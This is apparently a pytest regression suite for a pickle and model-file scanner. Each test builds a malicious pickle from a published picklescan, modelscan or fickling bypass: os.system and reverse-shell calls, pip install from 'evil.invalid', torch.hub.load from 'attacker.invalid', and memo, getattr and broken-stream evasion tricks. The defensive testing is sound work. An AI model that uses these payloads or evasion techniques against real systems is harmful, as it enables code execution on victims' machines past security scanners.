"""One test per published bypass of picklescan, modelscan and fickling, each headed by its
advisory, with the malicious input built in code; then the issue's "done when" list.

Payloads only name 127.0.0.1 or `*.invalid`; nothing here is ever unpickled.
"""

from __future__ import annotations

import io
import os
import pickle
import zipfile

import pytest

from support import modelcraft as mc

DANGEROUS, UNKNOWN, HIDDEN, BROKEN, LIMIT, UNVERIFIABLE = "CW801", "CW802", "CW803", "CW804", "CW805", "CW806"
KERAS_CODE, ANOMALY = "CW807", "CW810"


# -- picklescan ---------------------------------------------------------------------------------------


def test_cve_2025_10155_protocol0_pickle_disguised_as_bin() -> None:
    """https://nvd.nist.gov/vuln/detail/CVE-2025-10155 -- a protocol 0/1 pickle (no PROTO header)
    saved as `.bin` was not recognised as a pickle."""
    data = mc.global_("os", "system") + mc.MARK + mc.string0("id") + mc.TUPLE + mc.REDUCE + mc.STOP
    assert DANGEROUS in mc.rule_ids(data, "pytorch_model.bin")


@pytest.mark.parametrize("name", ["config.p", "weights.dat", "payload"])
def test_cve_2025_1889_pickle_under_an_unexpected_name(name: str) -> None:
    """https://nvd.nist.gov/vuln/detail/CVE-2025-1889 -- files were picked by extension only."""
    assert DANGEROUS in mc.rule_ids(mc.call("os", "system", mc.string0("id")), name)


def test_cve_2025_10156_zip_crc_error_does_not_hide_the_pickle() -> None:
    """https://nvd.nist.gov/vuln/detail/CVE-2025-10156 -- a wrong CRC made the scanner give up on the
    zip while PyTorch, which does not check it, loaded the pickle."""
    data = mc.torch_zip(mc.call("os", "system", mc.string0("id")), crc_ok=False)
    assert {DANGEROUS, ANOMALY} <= mc.rule_ids(data, "model.pt")


def test_cve_2025_10157_submodule_of_a_dangerous_module() -> None:
    """https://nvd.nist.gov/vuln/detail/CVE-2025-10157 -- `asyncio.unix_events._UnixSubprocessTransport`
    passed a check that matched the module name exactly."""
    data = mc.call("asyncio.unix_events", "_UnixSubprocessTransport", mc.NONE)
    assert DANGEROUS in mc.rule_ids(data)


def test_cve_2025_1716_pip_main() -> None:
    """https://nvd.nist.gov/vuln/detail/CVE-2025-1716 -- pip was not an unsafe global."""
    data = mc.call("pip", "main", mc.MARK + mc.string0("install") + mc.string0("evil.invalid") + b"l")
    assert DANGEROUS in mc.rule_ids(data)


def test_ghsa_xp4f_hrf8_rxw7_ensurepip_run_pip() -> None:
    """https://github.com/mmaitre314/picklescan/security/advisories/GHSA-xp4f-hrf8-rxw7"""
    assert DANGEROUS in mc.rule_ids(mc.stack_call("ensurepip", "_run_pip", mc.EMPTY_LIST))


def test_ghsa_vvpj_8cmc_gx39_pkgutil_resolve_name() -> None:
    """https://github.com/mmaitre314/picklescan/security/advisories/GHSA-vvpj-8cmc-gx39 -- one unlisted
    resolver reaches every listed callable."""
    data = (
        mc.proto(4)
        + mc.s("pkgutil")
        + mc.s("resolve_name")
        + mc.STACK_GLOBAL
        + mc.s("os:system")
        + mc.TUPLE1
        + mc.REDUCE
        + mc.s("id")
        + mc.TUPLE1
        + mc.REDUCE
        + mc.STOP
    )
    assert {DANGEROUS, HIDDEN} <= mc.rule_ids(data)


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("uuid", "_get_command_stdout"),
        ("imaplib", "IMAP4_stream"),
        ("_pyrepl.pager", "pipe_pager"),
        ("_osx_support", "_read_output"),
        ("_aix_support", "_read_cmd_output"),
    ],
)
def test_cve_2026_56315_stdlib_command_runners(module: str, name: str) -> None:
    """https://aithreatalert.com/cve/CVE-2026-56315 -- stdlib modules with command-running helpers were
    missing from the denylist."""
    assert DANGEROUS in mc.rule_ids(mc.call(module, name, mc.string0("id")))


def test_cve_2026_56304_logging_file_handler() -> None:
    """https://aithreatalert.com/cve/CVE-2026-56304 -- logging.FileHandler creates files on the loader."""
    assert DANGEROUS in mc.rule_ids(mc.call("logging", "FileHandler", mc.string0("/tmp/pwned")))


def test_picklescan_issue_14_memo_confusion_between_put_and_memoize() -> None:
    """https://github.com/mmaitre314/picklescan/issues/14 -- BINPUT fills memo slots that MEMOIZE then
    numbers differently; a scanner tracking only one saw `torch._utils` where `os` was."""
    data = (
        mc.proto(4)
        + mc.s("os")
        + mc.binput(0)
        + mc.s("system")
        + mc.binput(1)
        + mc.s("torch._utils")
        + mc.MEMOIZE
        + mc.s("_rebuild_tensor_v2")
        + mc.MEMOIZE
        + mc.POP
        + mc.POP
        + mc.POP
        + mc.POP
        + mc.binget(0)
        + mc.binget(1)
        + mc.STACK_GLOBAL
        + mc.s("id")
        + mc.TUPLE1
        + mc.REDUCE
        + mc.STOP
    )
    findings = mc.findings_for(data)
    assert any(f.rule_id == DANGEROUS and "os.system" in f.message for f in findings)


def test_picklescan_issue_22_stack_global_from_a_different_memo_slot() -> None:
    """https://github.com/mmaitre314/picklescan/issues/22 -- the memo argument was ignored."""
    data = (
        mc.proto(4)
        + mc.s("collections")
        + mc.put(3)
        + mc.s("OrderedDict")
        + mc.put(4)
        + mc.POP
        + mc.POP
        + mc.s("builtins")
        + mc.put(1)
        + mc.s("eval")
        + mc.put(2)
        + mc.POP
        + mc.POP
        + mc.get(1)
        + mc.get(2)
        + mc.STACK_GLOBAL
        + mc.s("1+1")
        + mc.TUPLE1
        + mc.REDUCE
        + mc.STOP
    )
    findings = mc.findings_for(data)
    assert any(f.rule_id == DANGEROUS and "builtins.eval" in f.message for f in findings)


def test_ghsa_9gvj_pp9x_gcfr_payload_then_a_parse_error() -> None:
    """https://github.com/mmaitre314/picklescan/security/advisories/GHSA-9gvj-pp9x-gcfr -- the scanner
    aborted on a malformed opcode after the payload and reported nothing."""
    payload = mc.call("os", "system", mc.string0("id"))[:-1]  # drop STOP
    data = payload + b"\xff\xfe garbage"
    assert {DANGEROUS, BROKEN} <= mc.rule_ids(data)


@pytest.mark.parametrize(("module", "name"), [("importlib", "import_module"), ("marshal", "loads")])
def test_picklescan_pr_74_importlib_and_marshal(module: str, name: str) -> None:
    """https://github.com/mmaitre314/picklescan/pull/74"""
    assert DANGEROUS in mc.rule_ids(mc.call(module, name, mc.string0("os")))


def test_ghsa_w8jq_xcqf_f792_encryption_flag_on_a_plain_member() -> None:
    """https://github.com/mmaitre314/picklescan/security/advisories/GHSA-w8jq-xcqf-f792 -- the zip flag
    bit for encryption crashed the scanner; PyTorch ignores it."""
    raw = bytearray(mc.torch_zip(mc.call("os", "system", mc.string0("id"))))
    for sig in (b"PK\x03\x04", b"PK\x01\x02"):  # set bit 0 of the flags in the first local and central header
        at = raw.find(sig)
        flag_at = at + (6 if sig == b"PK\x03\x04" else 8)
        raw[flag_at] |= 0x01
    assert {DANGEROUS, ANOMALY} <= mc.rule_ids(bytes(raw), "model.pt")


def test_ghsa_769v_p64c_89pr_pickle_in_torch_zip_under_another_extension() -> None:
    """https://github.com/mmaitre314/picklescan/security/advisories/GHSA-769v-p64c-89pr"""
    data = mc.torch_zip(mc.torch_state_dict_pickle(), extra={"archive/extra.bin": mc.call("os", "system", b"N")})
    assert DANGEROUS in mc.rule_ids(data, "model.pt")


# -- modelscan ----------------------------------------------------------------------------------------


def test_modelscan_issue_85_build_setattr_and_memo_stack_global() -> None:
    """https://github.com/protectai/modelscan/issues/85 -- BUILD writes "os"/"system" onto numpy.prod,
    then GLOBAL numpy prod.a / prod.b through PUT/GET feed STACK_GLOBAL."""
    data = (
        mc.proto(5)
        + mc.global_("numpy", "prod")
        + mc.NONE
        + mc.MARK
        + mc.unicode0("a")
        + mc.unicode0("os")
        + mc.DICT
        + mc.TUPLE2
        + mc.BUILD
        + mc.NONE
        + mc.MARK
        + mc.unicode0("b")
        + mc.unicode0("system")
        + mc.DICT
        + mc.TUPLE2
        + mc.BUILD
        + mc.POP
        + mc.global_("numpy", "prod.a")
        + mc.put(0)
        + mc.global_("numpy", "prod.b")
        + mc.put(1)
        + mc.POP
        + mc.POP
        + mc.get(0)
        + mc.get(1)
        + mc.STACK_GLOBAL
        + mc.unicode0("echo pwned")
        + mc.TUPLE1
        + mc.REDUCE
        + mc.STOP
    )
    ids = mc.rule_ids(data)
    assert HIDDEN in ids
    assert UNKNOWN in ids or DANGEROUS in ids


def test_modelscan_issue_330_numpy_builtins_through_build() -> None:
    """https://github.com/protectai/modelscan/issues/330 -- allowlisted-looking numpy globals reach
    `numpy.__builtins__` and eval."""
    data = bytes.fromhex(
        "80049566000000000000008c056e756d70798c0473697a659394948c056e756d70798c0c5f5f6275696c74696e735f5f939494"
        "68017d7d8c0573686170656803738662680168018c046576616c86528c1d5f5f696d706f72745f5f28226f7322292e73797374"
        "656d28226964222985522e"
    )
    findings = mc.findings_for(data)
    assert any(f.rule_id == DANGEROUS and "numpy.__builtins__" in f.message for f in findings)


def test_modelscan_issue_331_importlib_and_getattr_chain() -> None:
    """https://github.com/protectai/modelscan/issues/331 -- importlib.import_module + builtins.getattr
    assemble `os.system` from joined characters."""
    data = (
        mc.proto(4)
        + mc.s("importlib")
        + mc.s("import_module")
        + mc.STACK_GLOBAL
        + mc.MEMOIZE
        + mc.s("builtins")
        + mc.TUPLE1
        + mc.REDUCE
        + mc.MEMOIZE
        + mc.s("builtins")
        + mc.s("getattr")
        + mc.STACK_GLOBAL
        + mc.MEMOIZE
        + mc.binget(2)
        + mc.binget(1)
        + mc.s("str")
        + mc.TUPLE2
        + mc.REDUCE
        + mc.s("join")
        + mc.TUPLE2
        + mc.REDUCE
        + mc.s("")
        + mc.EMPTY_LIST
        + mc.MARK
        + mc.s("o")
        + mc.s("s")
        + mc.APPENDS
        + mc.TUPLE2
        + mc.REDUCE
        + mc.TUPLE1
        + mc.binget(0)
        + b"\x86"
        + mc.POP
        + mc.STOP
    )
    ids = mc.rule_ids(data)
    assert {DANGEROUS, HIDDEN} <= ids


def test_modelscan_issue_267_nested_pickle_loads() -> None:
    """https://github.com/protectai/modelscan/issues/267 -- pickle.loads of an embedded second pickle."""
    inner = b"cbuiltins\nprint\n(S'exploited'\ntR."
    data = mc.call("pickle", "loads", b"C" + bytes([len(inner)]) + inner, protocol=3)
    assert DANGEROUS in mc.rule_ids(data)


def test_modelscan_pr_348_missing_memo_after_the_payload() -> None:
    """https://github.com/protectai/modelscan/pull/348 -- a GET of a memo slot never PUT aborted the
    scan with zero issues although the payload came before it."""
    data = mc.call("os", "system", mc.string0("id"))[:-1] + mc.binget(9) + mc.binget(10) + mc.STACK_GLOBAL + mc.STOP
    assert {DANGEROUS, BROKEN} <= mc.rule_ids(data)


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("torch.utils.collect_env", "run"),
        ("multiprocessing.util", "spawnv_passfds"),
        ("mlflow.projects.backend.local", "_run_entry_point"),
        ("pandas.io.parsers.readers", "read_csv"),
    ],
)
def test_modelscan_issue_338_alternative_execution_primitives(module: str, name: str) -> None:
    """https://github.com/protectai/modelscan/issues/338"""
    assert DANGEROUS in mc.rule_ids(mc.call(module, name, mc.string0("echo bypass")))


# -- fickling -----------------------------------------------------------------------------------------


def test_ghsa_r7v6_mfhq_g3m2_pty_spawn() -> None:
    """https://github.com/trailofbits/fickling/security/advisories/GHSA-r7v6-mfhq-g3m2"""
    assert DANGEROUS in mc.rule_ids(mc.call("pty", "spawn", mc.string0("/bin/sh")))


def test_fickling_call_result_discarded_by_pop() -> None:
    """https://nuxt-hackernews-clone-xvvhang.vercel.app/item/47266286 (ModelAudit report on fickling):
    a call whose result is POPped vanished from the decompiled AST and the file scored LIKELY_SAFE."""
    data = (
        mc.proto(2)
        + mc.global_("subprocess", "Popen")
        + mc.MARK
        + mc.string0(mc.REVERSE_SHELL)
        + mc.TUPLE
        + mc.REDUCE
        + mc.POP
        + mc.EMPTY_DICT
        + mc.STOP
    )
    assert DANGEROUS in mc.rule_ids(data)


def test_fickling_pr_210_functools_partial_wrapper() -> None:
    """https://github.com/trailofbits/fickling/pull/210 -- functools.partial wraps a callable so the
    dangerous one is never the REDUCE target."""
    data = (
        mc.proto(2)
        + mc.global_("functools", "partial")
        + mc.global_("os", "system")
        + mc.string0("id")
        + mc.TUPLE2
        + mc.REDUCE
        + mc.EMPTY_TUPLE
        + mc.REDUCE
        + mc.STOP
    )
    assert {DANGEROUS, HIDDEN} <= mc.rule_ids(data)


def test_fickling_cve_2026_14535_dotted_name_is_not_a_prefix_match() -> None:
    """https://github.com/trailofbits/fickling/issues/190 (allowlist enforcement, CVE-2026-14535): `torch`
    plus the dotted name `hub.load` is torch.hub.load, which no torch allowlist entry covers."""
    data = mc.stack_call("torch", "hub.load", mc.s("attacker.invalid/repo"), mc.s("model"))
    findings = mc.findings_for(data)
    assert any(f.rule_id == DANGEROUS and "torch.hub.load" in f.message for f in findings)


# -- nullifAI -----------------------------------------------------------------------------------------


def test_nullifai_7z_compressed_torch_container() -> None:
    """https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face -- the
    PyTorch archive was 7z-compressed, which picklescan skipped."""
    assert UNVERIFIABLE in mc.rule_ids(mc.SEVEN_ZIP + b"payload bytes", "pytorch_model.bin")


def test_nullifai_payload_at_stream_start_then_broken_pickle() -> None:
    """Same advisory: the reverse shell sat at the start of the pickle and the stream broke after it."""
    data = mc.call("os", "system", mc.string0(mc.REVERSE_SHELL))[:-1] + mc.proto(2) + b"\x00\x00"
    assert {DANGEROUS, BROKEN} <= mc.rule_ids(data, "data.pkl")


# -- the issue's "done when" list -----------------------------------------------------------------------


class _ReverseShell:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, (mc.REVERSE_SHELL,))


@pytest.mark.parametrize("protocol", range(6))
def test_reverse_shell_via_reduce(protocol: int) -> None:
    data = pickle.dumps(_ReverseShell(), protocol=protocol)  # pickled, never loaded
    assert DANGEROUS in mc.rule_ids(data, "model.pkl")
    assert DANGEROUS in mc.rule_ids(mc.torch_zip(data), "model.pt")


def test_runpy() -> None:
    assert DANGEROUS in mc.rule_ids(mc.call("runpy", "_run_code", mc.string0("import os"), mc.EMPTY_DICT))


def test_builtins_getattr_chain() -> None:
    data = (
        mc.proto(2)
        + mc.global_("builtins", "getattr")
        + mc.global_("builtins", "__import__")
        + mc.string0("os")
        + mc.TUPLE1
        + mc.REDUCE
        + mc.string0("system")
        + mc.TUPLE2
        + mc.REDUCE
        + mc.string0("id")
        + mc.TUPLE1
        + mc.REDUCE
        + mc.STOP
    )
    assert {DANGEROUS, HIDDEN} <= mc.rule_ids(data)


def test_payload_followed_by_a_broken_stream() -> None:
    data = mc.call("subprocess", "check_output", mc.string0("id"))[:-1] + b"\x8c\xff"
    assert {DANGEROUS, BROKEN} <= mc.rule_ids(data)


def test_a_global_on_no_list() -> None:
    assert UNKNOWN in mc.rule_ids(mc.call("totally_unknown_pkg.helpers", "Thing", mc.NONE))


def test_stack_global_with_names_via_the_memo() -> None:
    data = (
        mc.proto(4)
        + mc.s("subprocess")
        + mc.MEMOIZE
        + mc.s("getoutput")
        + mc.MEMOIZE
        + mc.POP
        + mc.POP
        + mc.binget(0)
        + mc.binget(1)
        + mc.STACK_GLOBAL
        + mc.s("id")
        + mc.TUPLE1
        + mc.REDUCE
        + mc.STOP
    )
    assert DANGEROUS in mc.rule_ids(data)


def test_second_pickle_appended_after_a_benign_one() -> None:
    data = pickle.dumps({"weights": [1.0, 2.0]}, protocol=2) + mc.call("os", "system", mc.string0("id"))
    assert {DANGEROUS, BROKEN} <= mc.rule_ids(data, "model.pkl")


def test_7z_torch_container() -> None:
    assert UNVERIFIABLE in mc.rule_ids(mc.SEVEN_ZIP, "model.pt")


def test_keras_lambda_layer() -> None:
    assert KERAS_CODE in mc.rule_ids(mc.keras_zip([mc.dense_layer(), mc.lambda_layer()]), "model.keras")


def test_zip_bomb_member_is_bounded() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("archive/data.pkl", mc.proto(2) + b"N" * 3_000_000 + mc.STOP)
    assert LIMIT in mc.rule_ids(out.getvalue(), "model.pt")  # 3 MB of NONEs passes the stack cap
